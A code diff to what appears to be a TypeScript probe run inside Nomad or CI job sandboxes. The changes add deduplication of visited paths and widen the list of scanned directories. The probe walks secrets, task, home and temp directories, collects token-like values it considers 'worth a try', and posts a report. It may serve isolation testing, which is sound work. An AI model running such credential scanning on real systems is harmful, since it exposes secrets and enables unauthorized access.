@@ -39,6 +39,7 @@ const MAX_ANSWER_BYTES = 1_000_000;
 
 const orders = JSON.parse(process.env["PROBE"] ?? "{}") as Orders;
 const tokens = new Set<string>();
+const seen = new Set<string>();
 const counts = { files: 0, bytes: 0, unreadable: 0, skipped: 0, processes: 0 };
 
 async function main(): Promise<void> {
@@ -53,13 +54,12 @@ async function main(): Promise<void> {
   await post("/report", Buffer.from(JSON.stringify({ counts, tokens: tokens.size, answers })));
 }
 
+/** The nearest first: with a driver that isolates, the allocation's parent is the whole chroot. */
 function ownDirectories(): readonly string[] {
-  const of = (name: string): string[] => {
-    const value = process.env[name] ?? "";
-    return value === "" ? [] : [value];
-  };
-  const allocation = of("NOMAD_ALLOC_DIR").map((directory) => join(directory, ".."));
-  return [...allocation, ...of("NOMAD_TASK_DIR"), ...of("NOMAD_SECRETS_DIR"), ...of("HOME"), ...of("TMPDIR")];
+  const names = ["RUNNER_TEMP", "NOMAD_TASK_DIR", "NOMAD_SECRETS_DIR", "HOME", "TMPDIR", "NOMAD_ALLOC_DIR"];
+  const directories = names.map((name) => process.env[name] ?? "").filter((value) => value !== "");
+  const allocation = process.env["NOMAD_ALLOC_DIR"] ?? "";
+  return allocation === "" ? directories : [...directories, join(allocation, "..")];
 }
 
 /** @param mine whether what looks like a token there is worth a try */
@@ -104,6 +104,8 @@ async function readBelow(root: string, mine: boolean): Promise<void> {
   const queue = [root];
   for (let entries = 0; queue.length > 0 && entries < MAX_ENTRIES && counts.bytes < end; entries += 1) {
     const path = queue.shift() ?? "";
+    if (seen.has(path)) continue;
+    seen.add(path);
     const kind = kindOf(path);
     if (kind === "directory") queue.push(...listed(path).map((name) => join(path, name)));
     if (kind !== "file") continue;
